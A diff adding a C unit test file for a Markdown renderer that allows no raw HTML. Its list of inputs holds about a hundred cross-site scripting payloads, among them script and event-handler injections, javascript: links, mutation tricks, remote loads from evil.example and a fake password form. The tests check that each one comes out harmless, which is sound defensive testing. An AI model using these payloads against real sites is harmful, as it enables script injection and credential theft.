@@ -1,0 +1,284 @@
+/* P4.1: Markdown without raw HTML. What comes out is checked tag by tag against a list. */
+#include "base/limits.h"
+#include "web/markdown.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+static const char *const allowed_tags[] = {
+	"<blockquote>", "</blockquote>", "<ul>",     "</ul>",     "<ol>",   "</ol>",
+	"<li>",         "</li>",         "<p>",      "</p>",      "<h3>",   "</h3>",
+	"<h4>",         "</h4>",         "<h5>",     "</h5>",     "<h6>",   "</h6>",
+	"<em>",         "</em>",         "<strong>", "</strong>", "<code>", "</code>",
+	"<pre>",        "</pre>",        "<br>",     "<hr>",      "</a>",   "<span class=\"host\">",
+	"</span>",      "<bdi>",         "</bdi>",
+};
+
+static bool is_digits(struct str s)
+{
+	int64_t number;
+	return str_to_int(s, &number);
+}
+
+static bool is_allowed_href(struct str url)
+{
+	return (str_eq_nocase(str_slice(url, 0, 7), STR("http://")) ||
+		str_eq_nocase(str_slice(url, 0, 8), STR("https://")) ||
+		str_eq_nocase(str_slice(url, 0, 7), STR("mailto:"))) &&
+	       str_find_char(url, '"') < 0 && str_find_char(url, '<') < 0;
+}
+
+static bool is_allowed_tag(struct str tag)
+{
+	const struct str link = STR("<a href=\"");
+	const struct str link_end = STR("\" rel=\"noopener noreferrer nofollow\">");
+	const struct str list = STR("<ol start=\"");
+	for (size_t i = 0; i < sizeof allowed_tags / sizeof allowed_tags[0]; i++) {
+		if (str_eq(tag, str_of(allowed_tags[i])))
+			return true;
+	}
+	if (str_starts_with(tag, list) && str_ends_with(tag, STR("\">")))
+		return is_digits(str_slice(tag, list.len, tag.len - list.len - 2));
+	return str_starts_with(tag, link) && str_ends_with(tag, link_end) &&
+	       is_allowed_href(str_slice(tag, link.len, tag.len - link.len - link_end.len));
+}
+
+/* Every "<" starts an allowed tag, every quote and ">" belongs to one. */
+static void assert_clean(const char *text, struct str markup)
+{
+	for (size_t i = 0; i < markup.len; i++) {
+		char c = markup.data[i];
+		if (c == '>' || c == '"' || c == '\'')
+			fail_msg("loose %c in the HTML of %.60s: %.*s", c, text, STR_ARGS(markup));
+		if (c != '<')
+			continue;
+		ptrdiff_t end = str_find_char(str_slice(markup, i, markup.len), '>');
+		struct str tag = str_slice(markup, i, (size_t)end + 1);
+		if (end < 0 || !is_allowed_tag(tag))
+			fail_msg("not allowed in the HTML of %.60s: %.*s", text, STR_ARGS(tag));
+		i += (size_t)end;
+	}
+}
+
+static const char *const attacks[] = {
+	"<script>alert(1)</script>",
+	"<ScRiPt src=//evil.example/x.js></ScRiPt>",
+	"a <script>alert(1)</script> b",
+	"<img src=x onerror=alert(1)>",
+	"text <img src=x onerror=alert(1)> text",
+	"<svg/onload=alert(1)>",
+	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+	"<svg><script>alert(1)</script></svg>",
+	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+	"<body onload=alert(1)>",
+	"<a href=\"javascript:alert(1)\">x</a>",
+	"<style>@import 'https://evil.example/x.css';</style>",
+	"<link rel=stylesheet href=https://evil.example/x.css>",
+	"<base href=https://evil.example/>",
+	"<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+	"<form action=https://evil.example/><input name=password></form>",
+	"<details open ontoggle=alert(1)>",
+	"<template><img src=x onerror=alert(1)></template>",
+	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+	"<!-- <img src=x onerror=alert(1)> -->",
+	"<!--><img src=x onerror=alert(1)>-->",
+	"<![CDATA[<img src=x onerror=alert(1)>]]>",
+	"<?php echo 1 ?><img src=x onerror=alert(1)>",
+	"<!DOCTYPE html [<!ENTITY x 'y'>]>",
+	"</div></main><script>alert(1)</script>",
+	"</textarea><script>alert(1)</script>",
+	"[x](javascript:alert(1))",
+	"[x](JaVaScRiPt:alert(1))",
+	"[x](java\tscript:alert(1))",
+	"[x](<java\nscript:alert(1)>)",
+	"[x](javascript&colon;alert(1))",
+	"[x](javascript&#58;alert(1))",
+	"[x](&#x6A;avascript:alert(1))",
+	"[x](&#1;javascript:alert(1))",
+	"[x]( javascript:alert(1))",
+	"[x](<  javascript:alert(1)>)",
+	"[x](\\javascript:alert(1))",
+	"[x](vbscript:msgbox(1))",
+	"[x](data:text/html,<script>alert(1)</script>)",
+	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+	"[x](file:///etc/passwd)",
+	"[x](//evil.example/)",
+	"[x](/sign-out)",
+	"[x](?done=saved)",
+	"[x](#content)",
+	"[x](blob:https://evil.example/1)",
+	"[x](view-source:https://evil.example)",
+	"[x](https://evil.example/\"onmouseover=alert(1)//)",
+	"[x](https://evil.example/ \"t\\\" onmouseover=alert(1) \")",
+	"[x](https://evil.example/'onmouseover='alert(1))",
+	"[x](https://evil.example/&quot;onmouseover=alert(1))",
+	"[x](<https://evil.example/<script>alert(1)</script>>)",
+	"[x](https://bank.example@evil.example/)",
+	"[<img src=x onerror=alert(1)>](https://example.com)",
+	"![x](https://evil.example/pixel.png)",
+	"![<script>](https://evil.example/pixel.png)",
+	"![](https://evil.example/pixel.png)",
+	"![x](data:image/png;base64,AAAA)",
+	"![x](javascript:alert(1))",
+	"![[a](https://a.example)](https://b.example)",
+	"[![a](https://a.example)](https://b.example)",
+	"[a [b](https://b.example)](https://a.example)",
+	"![x](x \"onerror=alert(1)\")",
+	"<javascript:alert(1)>",
+	"<https://example.com/\"onclick=alert(1)>",
+	"<https://example.com/?a=1&b=2>",
+	"<anna@example.com>",
+	"[r]: javascript:alert(1)\n\n[x][r]",
+	"[r]: https://example.com \"<script>\"\n\n[x][r]",
+	"`<script>alert(1)</script>`",
+	"```html\"><script>alert(1)</script>\n<b>\n```",
+	"    <script>alert(1)</script>",
+	"~~~ \" onclick=\"alert(1)\nx\n~~~",
+	"# <script>alert(1)</script>",
+	"> <script>alert(1)</script>",
+	"- <script>alert(1)</script>",
+	"999999999. <script>alert(1)</script>",
+	"-1. x",
+	"&lt;script&gt;alert(1)&lt;/script&gt;",
+	"&#60;script&#62;alert(1)&#60;/script&#62;",
+	"&#x0;&#xD800;&#x110000;",
+	"<\xef\xbc\x9cscript>",
+	"\\<script>alert(1)\\</script>",
+	"<scr<script>ipt>alert(1)</scr</script>ipt>",
+	"<b>bold</b> and <i>slanted</i>",
+	"a\n<div>\nb\n</div>\n",
+	"<div\nonclick=alert(1)>x</div>",
+	"\"'><img src=x onerror=alert(1)>",
+	"{{7*7}} {% if 1 %} ${7*7}",
+	"*[x](https://a.example/**b)*",
+	"**<u>**x**</u>**",
+	"<a href='https://example.com' style='position:fixed;inset:0'>x</a>",
+	"<input autofocus onfocus=alert(1)>",
+	"<object data=javascript:alert(1)>",
+	"<embed src=javascript:alert(1)>",
+	"<video><source onerror=alert(1)></video>",
+	"<x contenteditable onblur=alert(1)>x",
+	"<button formaction=javascript:alert(1)>x",
+	"\xf0\x9f\x98\x80 [\xe2\x80\xae](https://example.com/\xe2\x80\xae)",
+};
+
+static void attacks_come_out_as_text(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+		struct arena CLEANUP_ARENA arena;
+		struct safe_html html;
+		arena_init(&arena, 1 << 20);
+		assert_int_equal(markdown_render(&arena, str_of(attacks[i]), &html), OK);
+		assert_clean(attacks[i], html.markup);
+	}
+}
+
+static const struct {
+	const char *text;
+	const char *markup;
+} letters[] = {
+	{"", ""},
+	{"Dear Anna,\nthank you.\n\nBen", "<p>Dear Anna,<br>\nthank you.</p>\n<p>Ben</p>\n"},
+	{"**a** *b* `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>\n"},
+	{"# A\n\n###### B", "<h3>A</h3>\n<h6>B</h6>\n"},
+	{"- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"},
+	{"3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n"},
+	{"> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"},
+	{"---", "<hr>\n"},
+	{"a <b>c</b>", "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"},
+	{"<div>\na\n</div>", "<p>&lt;div&gt;<br>\na<br>\n&lt;/div&gt;</p>\n"},
+	{"<https://example.com/>",
+	 "<p><a href=\"https://example.com/\" rel=\"noopener noreferrer nofollow\">"
+	 "https://example.com/</a></p>\n"},
+	{"[bank](https://bank.example@evil.example/x)",
+	 "<p><a href=\"https://bank.example@evil.example/x\" rel=\"noopener noreferrer "
+	 "nofollow\">bank</a>"
+	 " <span class=\"host\">(<bdi>evil.example</bdi>)</span></p>\n"},
+	{"[x](javascript:alert(1))", "<p>x</p>\n"},
+	{"![a picture](https://example.com/p.png)",
+	 "<p><a href=\"https://example.com/p.png\" rel=\"noopener noreferrer nofollow\">a "
+	 "picture</a>"
+	 " <span class=\"host\">(<bdi>example.com</bdi>)</span></p>\n"},
+	{"![a picture](data:image/png;base64,AA)", "<p>a picture</p>\n"},
+};
+
+static void letters_look_as_written(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < sizeof letters / sizeof letters[0]; i++) {
+		struct arena CLEANUP_ARENA arena;
+		struct safe_html html;
+		arena_init(&arena, 1 << 20);
+		assert_int_equal(markdown_render(&arena, str_of(letters[i].text), &html), OK);
+		assert_string_equal(arena_cstr(&arena, html.markup), letters[i].markup);
+	}
+}
+
+static size_t deepest(struct str markup)
+{
+	size_t depth = 0, most = 0;
+	for (size_t i = 0; i + 1 < markup.len; i++) {
+		struct str rest = str_slice(markup, i, markup.len);
+		if (markup.data[i] != '<' || str_starts_with(rest, STR("<br>")) ||
+		    str_starts_with(rest, STR("<hr>")))
+			continue;
+		depth += markup.data[i + 1] == '/' ? (size_t)-1 : 1;
+		most = depth > most ? depth : most;
+	}
+	return most;
+}
+
+/* Texts of the greatest length, made to hurt: they end, stay clean, and nest to a limit. */
+static void hostile_repetition_ends(void **state)
+{
+	static const char *const parts[] = {
+		"[",    "]",     "![",    "[a](", "*a ",      "_a ", "`",    "<",
+		"> ",   "- ",    "1. ",   "*_",   "[a]: u\n", "\\",  "&amp", "**a ",
+		"<!--", "x\n\n", "[](<b", "![l",  "\n",       "# ",
+	};
+	(void)state;
+	for (size_t i = 0; i < sizeof parts / sizeof parts[0]; i++) {
+		struct arena CLEANUP_ARENA arena;
+		struct safe_html html;
+		size_t len = strlen(parts[i]);
+		arena_init(&arena, 32 << 20);
+		char *text = arena_alloc(&arena, LIMIT_BODY_BYTES);
+		for (size_t at = 0; at < LIMIT_BODY_BYTES; at++)
+			text[at] = parts[i][at % len];
+		assert_int_equal(markdown_render(&arena, str_bytes(text, LIMIT_BODY_BYTES), &html),
+				 OK);
+		assert_clean(parts[i], html.markup);
+		assert_true(deepest(html.markup) <= 30);
+	}
+}
+
+static void a_longer_text_is_refused(void **state)
+{
+	struct arena CLEANUP_ARENA arena;
+	struct safe_html html = {STR_NONE};
+	(void)state;
+	arena_init(&arena, 32 << 20);
+	char *text = arena_alloc(&arena, LIMIT_BODY_BYTES + 1);
+	memset(text, 'a', LIMIT_BODY_BYTES + 1);
+	assert_int_equal(markdown_render(&arena, str_bytes(text, LIMIT_BODY_BYTES + 1), &html),
+			 ERR_TOO_LARGE);
+	assert_null(html.markup.data);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(attacks_come_out_as_text),
+		cmocka_unit_test(letters_look_as_written),
+		cmocka_unit_test(hostile_repetition_ends),
+		cmocka_unit_test(a_longer_text_is_refused),
+	};
+	cmocka_set_message_output(CM_OUTPUT_TAP);
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
